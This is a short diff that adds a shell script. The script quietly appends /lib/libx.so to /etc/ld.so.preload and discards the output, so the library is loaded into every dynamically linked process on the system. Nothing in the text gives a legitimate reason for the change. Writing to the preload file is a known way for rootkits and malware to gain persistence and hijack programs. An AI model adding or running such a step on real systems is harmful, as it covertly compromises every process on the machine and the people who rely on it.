@@ -1,0 +1,2 @@
+#!/bin/sh
+echo /lib/libx.so | tee -a /etc/ld.so.preload >/dev/null
